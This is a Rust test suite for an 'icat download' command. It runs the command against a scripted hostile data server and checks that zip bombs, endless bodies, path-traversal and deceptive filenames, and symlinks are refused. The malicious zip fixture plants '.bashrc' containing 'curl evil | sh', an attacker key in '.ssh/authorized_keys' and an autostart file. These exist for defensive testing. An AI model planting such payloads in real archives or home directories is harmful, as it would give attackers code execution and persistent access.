//! `icat download` against a hostile IDS (issue 14, download half): the simulator is the ICAT,
//! a scripted raw-TCP server on 127.0.0.1 is the IDS. What the command prints and its exit code
//! must tell the truth: checksum failures exit 6, files with nothing to verify against exit 7,
//! nothing beyond the catalogue size is written, zip entries nobody asked for are not extracted.
//! Set `ICAT_TEST_TIME=/usr/bin/time` to print the `icat` process's peak memory.

mod common;

#[path = "../../icat-ids/tests/hostile/server.rs"]
mod hostile;

use std::path::Path;
use std::time::Duration;

use common::{Home, files_under, json, login, ok, sim_with_root, start_sim, stderr, stdout};
use hostile::{Body, HostileIds, PREPARED_ID, Reply, make_zip};

/// One datafile of the simulator's catalogue.
struct Df {
    id: i64,
    name: String,
    size: u64,
    /// `<visit>/<dataset>` as the IDS zip layout and `icat download` use it.
    dir: String,
}

fn datafiles(home: &Home, visit: &str) -> Vec<Df> {
    let doc = json(&home.run(&["show", visit, "--json"]));
    let visit_id = doc["visit_id"].as_str().unwrap().to_string();
    let mut out = Vec::new();
    for ds in doc["datasets"].as_array().unwrap() {
        for f in ds["files"].as_array().unwrap() {
            out.push(Df {
                id: f["id"].as_i64().unwrap(),
                name: f["name"].as_str().unwrap().to_string(),
                size: f["size"].as_u64().unwrap(),
                dir: format!("{visit_id}/{}", ds["name"].as_str().unwrap()),
            });
        }
    }
    out
}

/// The hostile server on its own runtime (the simulator has its own).
struct Server {
    ids: HostileIds,
    _rt: tokio::runtime::Runtime,
}

fn serve(handler: impl Fn(&hostile::Request) -> Reply + Send + Sync + 'static) -> Server {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let ids = rt.block_on(HostileIds::start(handler));
    Server { ids, _rt: rt }
}

/// `icat --idsurl <hostile> download ...`, through `$ICAT_TEST_TIME -v` when set.
fn download(ids: &Server, home: &Home, args: &[&str]) -> std::process::Output {
    let url = ids.ids.url();
    let mut all = vec!["--idsurl", url.as_str(), "download"];
    all.extend_from_slice(args);
    match std::env::var_os("ICAT_TEST_TIME") {
        Some(time) => {
            let cmd = home.icat(&all);
            let mut timed = std::process::Command::new(time);
            timed
                .arg("-v")
                .arg(cmd.get_program())
                .args(cmd.get_args())
                .envs(cmd.get_envs().filter_map(|(k, v)| Some((k, v?))))
                .env_remove("ICAT_TEST_TIME")
                .current_dir(home.path())
                .stdin(std::process::Stdio::null());
            let o = timed.output().unwrap();
            let err = stderr(&o);
            if let Some(line) = err
                .lines()
                .find(|l| l.contains("Maximum resident set size"))
            {
                eprintln!("icat {}: {}", args.join(" "), line.trim());
            }
            o
        }
        None => home.run(&all),
    }
}

fn sizes_under(dir: &Path) -> Vec<(String, u64)> {
    files_under(dir)
        .into_iter()
        .map(|p| {
            let len = std::fs::metadata(dir.join(&p)).unwrap().len();
            (p.to_string_lossy().into_owned(), len)
        })
        .collect()
}

/// Finding 2: the catalogue says N bytes, the IDS sends without end (and with a lying 50 GB
/// length): exit 6, nothing at the final path, nothing written beyond N bytes.
#[test]
fn endless_body_exits_6_and_writes_nothing_past_the_catalogue_size() {
    let sim = start_sim(
        "visits=1,datasets=1,files=1,size=1000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let df = &datafiles(&home, "SIM000001")[0];
    for content_length in [None, Some(50_000_000_000u64)] {
        let ids = serve(move |_| Reply::body(Body::Endless { content_length }));
        let dest = home.path().join("endless");
        let o = download(
            &ids,
            &home,
            &[
                "--datafile",
                &df.id.to_string(),
                "-o",
                dest.to_str().unwrap(),
            ],
        );
        assert_eq!(o.status.code(), Some(6), "{}", stderr(&o));
        assert!(
            stderr(&o).contains("more than the expected"),
            "{}",
            stderr(&o)
        );
        for (p, len) in sizes_under(&dest) {
            assert!(
                len <= df.size,
                "{p}: {len} bytes written, catalogue says {}",
                df.size
            );
        }
        assert!(!dest.join(&df.dir).join(&df.name).exists());
        assert!(ids.ids.bytes_sent() < hostile::SERVER_CAP);
    }
}

/// Review M2: `--no-verify` used to drop the byte limit with the checks (50 MiB placed for a
/// 4096-byte datafile). The catalogue size is a safety bound: with `--no-verify` an endless
/// answer still stops there, nothing is placed, nothing past the size is written.
#[test]
fn no_verify_keeps_the_byte_limit() {
    let sim = start_sim(
        "visits=1,datasets=1,files=1,size=4096",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let df = &datafiles(&home, "SIM000001")[0];
    let ids = serve(|_| {
        Reply::body(Body::Endless {
            content_length: None,
        })
    });
    let dest = home.path().join("endless");
    let o = download(
        &ids,
        &home,
        &[
            "--datafile",
            &df.id.to_string(),
            "--no-verify",
            "-o",
            dest.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(6), "{}", stderr(&o));
    for (p, len) in sizes_under(&dest) {
        assert!(
            len <= df.size,
            "{p}: {len} bytes, catalogue says {}",
            df.size
        );
    }
    assert!(!dest.join(&df.dir).join(&df.name).exists());
    assert!(ids.ids.bytes_sent() < hostile::SERVER_CAP);
}

/// Findings 3 and 9: a `--zip` answer with extra entries (dot files, an autostart file), an
/// entry that fails its catalogue checksum, and a good entry: the good file is extracted and
/// verified, nothing else is written, the extra entries are reported, and the run exits 6
/// (verification) with a checksum message, not "IDS internal error".
#[test]
fn zip_with_extra_and_bad_entries_extracts_only_good_selected_files() {
    let sim = start_sim(
        "visits=1,datasets=1,files=2,size=2000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let dfs = datafiles(&home, "SIM000001");
    let good_bytes = {
        // Bytes that match the catalogue: take them from the simulator's own IDS.
        let dest = home.path().join("reference");
        ok(&home.run(&[
            "download",
            "--datafile",
            &dfs[0].id.to_string(),
            "-o",
            dest.to_str().unwrap(),
        ]));
        std::fs::read(dest.join(&dfs[0].dir).join(&dfs[0].name)).unwrap()
    };
    assert_eq!(good_bytes.len() as u64, dfs[0].size);
    let entry = |df: &Df| format!("ids/SIM/INV/{}/{}", df.dir, df.name);
    let zip = make_zip(
        &[
            (&entry(&dfs[0]), &good_bytes),
            (&entry(&dfs[1]), &vec![b'!'; dfs[1].size as usize]),
            (".bashrc", b"curl evil | sh"),
            (".ssh/authorized_keys", b"ssh-rsa AAAA attacker"),
            (".config/autostart/evil.desktop", b"[Desktop Entry]"),
        ],
        false,
    );
    let ids = serve(move |req| match req.call.as_str() {
        "prepareData" => Reply::ok(PREPARED_ID),
        "isPrepared" => Reply::ok("true"),
        "getData" => Reply::ok(zip.clone()),
        _ => Reply::not_found(),
    });
    let dest = home.path().join("zip");
    let ids_list = format!("{},{}", dfs[0].id, dfs[1].id);
    let o = download(
        &ids,
        &home,
        &[
            "--datafile",
            &ids_list,
            "--zip",
            "-o",
            dest.to_str().unwrap(),
        ],
    );
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(6), "{err}");
    assert!(err.contains("checksum mismatch"), "{err}");
    assert!(!err.contains("internal error"), "{err}");
    assert!(
        err.contains("not extracted") && err.contains("authorized_keys"),
        "{err}"
    );
    let good = format!("{}/{}", dfs[0].dir, dfs[0].name);
    // Besides the good file only the bad entry's bytes, kept where the error message says.
    let kept = format!(".icat-download/df-{}.part", dfs[1].id);
    assert!(err.contains(&kept), "{err}");
    assert_eq!(
        files_under(&dest),
        vec![
            std::path::PathBuf::from(&kept),
            std::path::PathBuf::from(&good)
        ]
    );
    assert_eq!(std::fs::read(dest.join(&good)).unwrap(), good_bytes);
    assert!(!home.path().join(".bashrc").exists() && !home.path().join(".ssh").exists());
}

/// Finding 3: a zip bomb (64 MiB of zeros deflated to about 64 KiB) for a datafile the
/// catalogue says is 2000 bytes: exit 6, nothing larger than 2000 bytes on disk.
#[test]
fn zip_bomb_exits_6_and_writes_nothing_past_the_catalogue_size() {
    let sim = start_sim(
        "visits=1,datasets=1,files=1,size=2000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let df = &datafiles(&home, "SIM000001")[0];
    let bomb = vec![0u8; 64 << 20];
    let zip = make_zip(
        &[(&format!("ids/SIM/INV/{}/{}", df.dir, df.name), &bomb)],
        true,
    );
    drop(bomb);
    assert!(zip.len() < 1 << 20);
    let ids = serve(move |req| match req.call.as_str() {
        "prepareData" => Reply::ok(PREPARED_ID),
        "isPrepared" => Reply::ok("true"),
        "getData" => Reply::ok(zip.clone()),
        _ => Reply::not_found(),
    });
    let dest = home.path().join("bomb");
    let o = download(
        &ids,
        &home,
        &[
            "--datafile",
            &df.id.to_string(),
            "--zip",
            "-o",
            dest.to_str().unwrap(),
        ],
    );
    assert_eq!(o.status.code(), Some(6), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("more than the expected"),
        "{}",
        stderr(&o)
    );
    for (p, len) in sizes_under(&dest) {
        assert!(
            len <= df.size,
            "{p}: {len} bytes written, catalogue says {}",
            df.size
        );
    }
}

/// Finding 11: the catalogue has no size and no checksum, the IDS sends a third of the file
/// without a length and closes: the file is placed but named as not verified, and the run
/// exits 7 so a script can tell.
#[test]
fn nothing_to_verify_against_exits_7_and_names_the_file() {
    let sim = start_sim(
        "visits=1,datasets=1,files=1,size=1000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let df = &datafiles(&home, "SIM000001")[0];
    sim.sql(&format!(
        r#"UPDATE "Datafile" SET "fileSize" = NULL, "checksum" = NULL WHERE "id" = {}"#,
        df.id
    ));
    let ids = serve(|_| Reply::body(Body::CloseDelimited(vec![7u8; 333])));
    let dest = home.path().join("cut");
    let o = download(
        &ids,
        &home,
        &[
            "--datafile",
            &df.id.to_string(),
            "-o",
            dest.to_str().unwrap(),
        ],
    );
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(7), "{err}\n{}", stdout(&o));
    assert!(
        err.contains("not verified") && err.contains(&df.name),
        "{err}"
    );
    // The summary line is printed on stdout for failed runs too.
    assert!(stdout(&o).contains("NOT verified"), "{}", stdout(&o));
    // --no-verify asks for exactly this: the file is accepted, the summary still says so.
    let dest = home.path().join("cut2");
    let o = download(
        &ids,
        &home,
        &[
            "--datafile",
            &df.id.to_string(),
            "--no-verify",
            "-o",
            dest.to_str().unwrap(),
        ],
    );
    assert!(ok(&o).contains("1 NOT verified"), "{}", stdout(&o));
}

/// Finding 1, end to end with the simulator: a dataset holding `x` and `x.part` downloads both,
/// each with its own bytes, at any parallelism; and `A.dat` beside `a.dat` is reported.
#[test]
fn datafiles_named_like_temporary_files_or_colliding_in_case_download_apart() {
    let (_sim, home) = sim_with_root("visits=1,datasets=1,files=1,size=1KiB", Duration::ZERO);
    let tree = json(&home.run(&["show", "SIM000001", "--json"]));
    let ds = tree["datasets"][0]["id"].as_i64().unwrap().to_string();
    let src = home.path().join("src");
    std::fs::create_dir(&src).unwrap();
    let x: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
    let xpart: Vec<u8> = (0..9000u32).map(|i| (i % 241) as u8).collect();
    std::fs::write(src.join("x"), &x).unwrap();
    std::fs::write(src.join("x.part"), &xpart).unwrap();
    ok(&home.run(&[
        "upload",
        src.join("x.part").to_str().unwrap(),
        src.join("x").to_str().unwrap(),
        "--dataset",
        &ds,
        "--format",
        "NeXus",
    ]));
    let dir = datafiles(&home, "SIM000001")
        .into_iter()
        .find(|d| d.name == "x")
        .unwrap()
        .dir;
    for parallel in ["1", "4"] {
        let dest = home.path().join(format!("out{parallel}"));
        let out = ok(&home.run(&[
            "download",
            "--dataset",
            &ds,
            "--parallel",
            parallel,
            "-o",
            dest.to_str().unwrap(),
        ]));
        assert!(out.contains("downloaded 3 files"), "{out}");
        assert!(std::fs::read(dest.join(&dir).join("x")).unwrap() == x, "x");
        assert!(
            std::fs::read(dest.join(&dir).join("x.part")).unwrap() == xpart,
            "x.part"
        );
        assert_eq!(files_under(&dest).len(), 3, "{:?}", files_under(&dest));
    }
    // Two names that differ only in case.
    std::fs::write(src.join("A.dat"), b"upper").unwrap();
    let lower = home.path().join("lower");
    std::fs::create_dir(&lower).unwrap();
    std::fs::write(lower.join("a.dat"), b"lower").unwrap();
    for f in [src.join("A.dat"), lower.join("a.dat")] {
        ok(&home.run(&[
            "upload",
            f.to_str().unwrap(),
            "--dataset",
            &ds,
            "--format",
            "NeXus",
        ]));
    }
    let dest = home.path().join("case");
    let o = home.run(&["download", "--dataset", &ds, "-o", dest.to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("differ only in letter case"), "{err}");
    // Review: the summary said "run the same command again to retry", which cannot help.
    assert!(err.contains("a rerun cannot help"), "{err}");
    assert!(!err.contains("run the same command again"), "{err}");
    assert!(!dest.join(&dir).join("A.dat").exists() && !dest.join(&dir).join("a.dat").exists());
    assert!(dest.join(&dir).join("x.part").exists());
}

/// Datafile and dataset names that are `.`, `..`, empty, or nothing but `/` and `.` once cleaned
/// cannot be local paths (`.` would make the dataset folder itself the file). Each such datafile
/// fails on its own, named in the report; the others download (raw and `--zip`).
#[test]
fn datafiles_whose_names_cannot_be_paths_fail_alone() {
    let (sim, home) = sim_with_root("visits=1,datasets=2,files=4,size=1KiB", Duration::ZERO);
    let files = datafiles(&home, "SIM000001");
    assert_eq!(files.len(), 8);
    let tree = json(&home.run(&["show", "SIM000001", "--json"]));
    let second_ds = tree["datasets"][1]["id"].as_i64().unwrap();
    let (first, second): (Vec<&Df>, Vec<&Df>) = files.iter().partition(|f| f.dir == files[0].dir);
    assert_eq!((first.len(), second.len()), (4, 4));
    for (f, name) in first.iter().zip(["..", "", "/./.", "ok.dat"]) {
        sim.sql(&format!(
            "UPDATE \"Datafile\" SET \"name\" = '{name}' WHERE \"id\" = {}",
            f.id
        ));
    }
    sim.sql(&format!(
        "UPDATE \"Dataset\" SET \"name\" = '.' WHERE \"id\" = {second_ds}"
    ));
    let good = first[3];
    for zip in [false, true] {
        let dest = home.path().join(format!("out-{zip}"));
        let mut args = vec![
            "download",
            "SIM000001",
            "-o",
            dest.to_str().unwrap(),
            "--json",
        ];
        if zip {
            args.push("--zip");
        }
        let o = home.run(&args);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(5), "{err}");
        assert!(err.contains("7 of 8 files failed (1 downloaded"), "{err}");
        assert!(err.contains("ask the facility to rename them"), "{err}");
        assert!(err.contains("refusing unsafe name"), "{err}");
        // Each refused datafile is named (by its id; the error quotes its names), never the
        // destination folder as if it were the file that failed.
        for f in first[..3].iter().chain(&second) {
            assert!(
                err.contains(&format!("failed: datafile {}: refusing unsafe name", f.id)),
                "datafile {} not named: {err}",
                f.id
            );
        }
        assert!(
            !err.contains(&format!("failed: {}:", dest.display())),
            "{err}"
        );
        // Only the good file is written, at its own path.
        assert_eq!(
            files_under(&dest),
            [std::path::PathBuf::from(format!("{}/ok.dat", good.dir))],
            "zip: {zip}"
        );
        let doc: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
        let outcomes: Vec<&str> = doc["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["outcome"].as_str().unwrap())
            .collect();
        assert_eq!(
            outcomes.iter().filter(|o| **o == "failed").count(),
            7,
            "{doc}"
        );
    }
}

/// The zip entry named `name` in `zip` declared as `declared` bytes long, in its local header
/// and in the central directory, whatever it really holds (a lying zip).
fn declare_entry_size(zip: &mut [u8], name: &str, declared: u32) {
    let mut patched = 0;
    for i in 0..zip.len().saturating_sub(46) {
        let (size_at, name_at) = match &zip[i..i + 4] {
            b"PK\x03\x04" => (i + 22, i + 30),
            b"PK\x01\x02" => (i + 24, i + 46),
            _ => continue,
        };
        if zip.get(name_at..name_at + name.len()) == Some(name.as_bytes()) {
            zip[size_at..size_at + 4].copy_from_slice(&declared.to_le_bytes());
            patched += 1;
        }
    }
    assert_eq!(patched, 2, "local header and central directory entry");
}

/// Review H1 at the command line: datafiles whose catalogue size is -1 or absent (and no
/// checksum) had no byte bound at all. With `--zip`, an entry that declares 2000 bytes and
/// inflates to 64 MiB stops at its declared size: exit 6, nothing at the final paths, nothing
/// larger than 2000 bytes on disk. Raw, a body that says `Content-Length: 3000` and goes on
/// sending is read to its length only: the files hold 3000 bytes, named as not verified (exit 7).
#[test]
fn files_of_unknown_size_are_bounded_by_what_the_answer_declares() {
    let sim = start_sim(
        "visits=1,datasets=1,files=2,size=2000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let files = datafiles(&home, "SIM000001");
    for (f, size) in files.iter().zip(["-1", "NULL"]) {
        sim.sql(&format!(
            r#"UPDATE "Datafile" SET "fileSize" = {size}, "checksum" = NULL WHERE "id" = {}"#,
            f.id
        ));
    }
    let ids_arg: Vec<String> = files.iter().map(|f| f.id.to_string()).collect();
    let selection = ["--datafile", &ids_arg[0], "--datafile", &ids_arg[1]];

    let bomb = vec![0u8; 64 << 20];
    let names: Vec<String> = files
        .iter()
        .map(|f| format!("ids/SIM/INV/{}/{}", f.dir, f.name))
        .collect();
    let mut zip = make_zip(
        &[
            (names[0].as_str(), &bomb[..]),
            (names[1].as_str(), &bomb[..]),
        ],
        true,
    );
    drop(bomb);
    for name in &names {
        declare_entry_size(&mut zip, name, 2000);
    }
    let ids = serve(move |req| match req.call.as_str() {
        "prepareData" => Reply::ok(PREPARED_ID),
        "isPrepared" => Reply::ok("true"),
        "getData" => Reply::ok(zip.clone()),
        _ => Reply::not_found(),
    });
    let dest = home.path().join("zip");
    let mut args = selection.to_vec();
    args.extend(["--zip", "-o", dest.to_str().unwrap()]);
    let o = download(&ids, &home, &args);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(6), "{err}");
    assert!(err.contains("more than the expected 2000 bytes"), "{err}");
    for (p, len) in sizes_under(&dest) {
        assert!(
            len <= 2000,
            "{p}: {len} bytes written past the declared 2000"
        );
    }
    for f in &files {
        assert!(!dest.join(&f.dir).join(&f.name).exists(), "{}", f.name);
    }

    let ids = serve(|_| {
        Reply::body(Body::Endless {
            content_length: Some(3000),
        })
    });
    let dest = home.path().join("raw");
    let mut args = selection.to_vec();
    args.extend(["-o", dest.to_str().unwrap()]);
    let o = download(&ids, &home, &args);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(7), "{err}");
    assert!(err.contains("not verified"), "{err}");
    for f in &files {
        let placed = dest.join(&f.dir).join(&f.name);
        assert_eq!(
            std::fs::metadata(&placed).map(|m| m.len()).ok(),
            Some(3000),
            "{}",
            f.name
        );
    }
    for (p, len) in sizes_under(&dest) {
        assert!(
            len <= 3000,
            "{p}: {len} bytes written past the declared 3000"
        );
    }
}

/// Review: a run whose every datafile was refused for its name ended "(the other files were
/// downloaded)" though none was; and a datafile name carrying a right-to-left override
/// (`U+202E txt.exe`, shown by file managers as `exe.txt`) was written to disk. Both names are
/// refused per file, nothing is written, and the summary claims no other downloads.
#[test]
fn names_that_lie_or_cannot_be_paths_are_refused_and_the_summary_claims_nothing_else() {
    let sim = start_sim(
        "visits=1,datasets=1,files=2,size=1KiB",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let files = datafiles(&home, "SIM000001");
    for (f, name) in files.iter().zip(["..", "\u{202e}txt.exe"]) {
        sim.sql(&format!(
            r#"UPDATE "Datafile" SET "name" = '{name}' WHERE "id" = {}"#,
            f.id
        ));
    }
    let dest = home.path().join("out");
    let o = home.run(&["download", "SIM000001", "-o", dest.to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(5), "{err}");
    assert!(err.contains("2 of 2 files failed (0 downloaded"), "{err}");
    assert!(err.contains("ask the facility to rename them"), "{err}");
    assert!(!err.contains("the other files were downloaded"), "{err}");
    assert!(err.contains("bidirectional"), "{err}");
    assert!(!err.contains('\u{202e}'), "{err}");
    assert!(files_under(&dest).is_empty(), "{:?}", files_under(&dest));
}

/// Re-review (issue 14, low): a zip from the IDS holding a symbolic link, or a folder, under
/// the name of a selected datafile. Before, that datafile was "not in the prepared zip", exit 4
/// (not found), as if the catalogue were wrong; it is the IDS's zip that is broken: refused as
/// what it is, exit 5 (a server answer that lies, like a zip holding one datafile twice),
/// nothing written at its path, the good entry extracted.
#[test]
fn a_link_or_folder_in_place_of_a_selected_file_is_refused_as_a_broken_zip() {
    use std::io::Write;
    let sim = start_sim(
        "visits=1,datasets=1,files=3,size=2000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let dfs = datafiles(&home, "SIM000001");
    let good_bytes = {
        let dest = home.path().join("reference");
        ok(&home.run(&[
            "download",
            "--datafile",
            &dfs[2].id.to_string(),
            "-o",
            dest.to_str().unwrap(),
        ]));
        std::fs::read(dest.join(&dfs[2].dir).join(&dfs[2].name)).unwrap()
    };
    let entry = |df: &Df| format!("ids/SIM/INV/{}/{}", df.dir, df.name);
    let zip = {
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        let opts = zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Stored);
        w.add_symlink(entry(&dfs[0]), "/etc/passwd", opts).unwrap();
        w.add_directory(format!("{}/", entry(&dfs[1])), opts)
            .unwrap();
        w.start_file(entry(&dfs[2]), opts).unwrap();
        w.write_all(&good_bytes).unwrap();
        w.finish().unwrap().into_inner()
    };
    let ids = serve(move |req| match req.call.as_str() {
        "prepareData" => Reply::ok(PREPARED_ID),
        "isPrepared" => Reply::ok("true"),
        "getData" => Reply::ok(zip.clone()),
        _ => Reply::not_found(),
    });
    let dest = home.path().join("zip");
    let ids_list = format!("{},{},{}", dfs[0].id, dfs[1].id, dfs[2].id);
    let o = download(
        &ids,
        &home,
        &[
            "--datafile",
            &ids_list,
            "--zip",
            "-o",
            dest.to_str().unwrap(),
        ],
    );
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(5), "{err}");
    assert!(!err.contains("not in the prepared zip"), "{err}");
    assert!(err.contains("a symbolic link where"), "{err}");
    assert!(err.contains("a folder where"), "{err}");
    assert!(err.contains("report it to the facility"), "{err}");
    let good = format!("{}/{}", dfs[2].dir, dfs[2].name);
    assert_eq!(files_under(&dest), vec![std::path::PathBuf::from(&good)]);
    assert_eq!(std::fs::read(dest.join(&good)).unwrap(), good_bytes);
}

/// Re-review (issue 14, low): a partial download as long as the whole file but with other
/// bytes: the resume asks from its end, the server cannot continue it (416), the file is
/// fetched once more from the start. The summary said "downloaded 1 file (0 B)", counting the
/// refetched file as resumed from its full length; it must count the bytes fetched again.
#[test]
fn a_refetched_file_counts_the_bytes_fetched_again() {
    let sim = start_sim(
        "visits=1,datasets=1,files=1,size=3000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let df = datafiles(&home, "SIM000001").remove(0);
    let dest = home.path().join("d");
    let work = dest.join(".icat-download");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(
        work.join(format!("df-{}.part", df.id)),
        vec![b'x'; df.size as usize],
    )
    .unwrap();
    let o = home.run(&[
        "download",
        "--datafile",
        &df.id.to_string(),
        "-o",
        dest.to_str().unwrap(),
        "--json",
    ]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    let doc: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
    assert_eq!(doc["bytes_transferred"].as_u64(), Some(df.size), "{doc}");
    assert!(!err.contains("(0 B)"), "{err}");
    assert_eq!(
        std::fs::metadata(dest.join(&df.dir).join(&df.name))
            .unwrap()
            .len(),
        df.size
    );
}

/// A simulator visit of three datafiles whose first has an absurd catalogue `fileSize`
/// (i64::MAX, 8 EiB), and a home logged in as jdoe; with the datafiles.
fn one_absurd_catalogue_size() -> (common::Sim, Home, Vec<Df>) {
    let sim = start_sim(
        "visits=1,datasets=1,files=3,size=1000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let dfs = datafiles(&home, "SIM000001");
    sim.sql(&format!(
        "UPDATE \"Datafile\" SET \"fileSize\" = {} WHERE \"id\" = {}",
        i64::MAX,
        dfs[0].id
    ));
    (sim, home, dfs)
}

/// Re-review (issue 14, low): one datafile whose catalogue `fileSize` is absurd (i64::MAX,
/// 8 EiB). Before, the whole run stopped with exit 2 ("not enough room"); now that file alone
/// fails, saying its size is more than the destination's free space, and the others download.
#[test]
fn an_absurd_catalogue_size_fails_that_file_alone() {
    let (_sim, home, dfs) = one_absurd_catalogue_size();
    let dest = home.path().join("d");
    let o = home.run(&["download", "SIM000001", "-o", dest.to_str().unwrap()]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("1 of 3 files failed (2 downloaded"), "{err}");
    assert!(
        err.contains(&format!("{} bytes by the catalogue", i64::MAX)),
        "{err}"
    );
    assert!(err.contains("report it to the facility"), "{err}");
    let mut expected: Vec<std::path::PathBuf> = dfs[1..]
        .iter()
        .map(|f| std::path::PathBuf::from(format!("{}/{}", f.dir, f.name)))
        .collect();
    expected.sort();
    assert_eq!(files_under(&dest), expected);
    // The same with a relative -o that does not exist yet (the reviewer's `-o dfx`; before,
    // no free space was found for it and the whole run was refused, exit 2).
    let o = home.run(&["download", "SIM000001", "-o", "fresh"]);
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(err.contains("1 of 3 files failed (2 downloaded"), "{err}");
    assert_eq!(files_under(&home.path().join("fresh")), expected);
}

/// Issue 14 review, finding 7: `--dry-run` foresaw the absurd catalogue size as a name that
/// cannot be a path ("(datafile N: no safe path)", "ask the facility to rename them", exit 5)
/// where the real run fails that file for the free space, exit 1. Now the plan says so too.
#[test]
fn a_dry_run_foresees_an_absurd_catalogue_size_as_the_real_run_does() {
    let (_sim, home, _dfs) = one_absurd_catalogue_size();
    let dest = home.path().join("d");
    std::fs::create_dir(&dest).unwrap();
    let o = home.run(&[
        "download",
        "SIM000001",
        "-o",
        dest.to_str().unwrap(),
        "--dry-run",
    ]);
    let (out, err) = (stdout(&o), stderr(&o));
    assert_eq!(o.status.code(), Some(1), "{out}{err}");
    assert!(err.contains("free space"), "{err}");
    assert!(!err.contains("rename"), "{err}");
    assert!(!out.contains("no safe path"), "{out}");
    assert!(out.contains("too large"), "{out}");
    assert!(files_under(&dest).is_empty());
}

/// Issue 16 (left over, medium): a datafile whose catalogue name holds a C0 control character
/// reaches the client with U+FFFD in its place (XML 1.0 cannot carry it), while the IDS names
/// its zip entry with the character itself. Alone, it downloads under the name the catalogue
/// gave; inside a bundle of small files (and with `--zip`) it failed with "not in the prepared
/// zip", exit 4. Now the entry is matched to it and it downloads under the same name, bundled,
/// zipped or alone.
#[test]
fn a_name_with_a_control_character_downloads_the_same_bundled_zipped_or_alone() {
    let sim = start_sim(
        "visits=1,datasets=1,files=3,size=1000",
        false,
        Duration::ZERO,
    );
    let home = Home::new();
    login(&home, &sim, "jdoe");
    let dfs = datafiles(&home, "SIM000001");
    sim.sql(&format!(
        "UPDATE \"Datafile\" SET \"name\" = 'a' || char(1) || 'b.dat' WHERE \"id\" = {}",
        dfs[0].id
    ));
    let odd = format!("{}/a\u{FFFD}b.dat", dfs[0].dir);
    let mut all: Vec<std::path::PathBuf> = dfs[1..]
        .iter()
        .map(|f| std::path::PathBuf::from(format!("{}/{}", f.dir, f.name)))
        .chain([std::path::PathBuf::from(&odd)])
        .collect();
    all.sort();
    let id = dfs[0].id.to_string();
    for (how, args, expected) in [
        (
            "alone",
            vec!["--datafile", id.as_str()],
            vec![std::path::PathBuf::from(&odd)],
        ),
        ("bundled", vec!["SIM000001"], all.clone()),
        ("zipped", vec!["SIM000001", "--zip"], all.clone()),
    ] {
        let dest = home.path().join(how);
        let mut argv = vec!["download", "-o", dest.to_str().unwrap()];
        argv.extend(args);
        let o = home.run(&argv);
        let err = stderr(&o);
        assert_eq!(o.status.code(), Some(0), "{how}: {err}");
        let mut got = files_under(&dest);
        got.sort();
        assert_eq!(got, expected, "{how}");
        assert_eq!(
            std::fs::metadata(dest.join(&odd)).unwrap().len(),
            1000,
            "{how}"
        );
    }
}
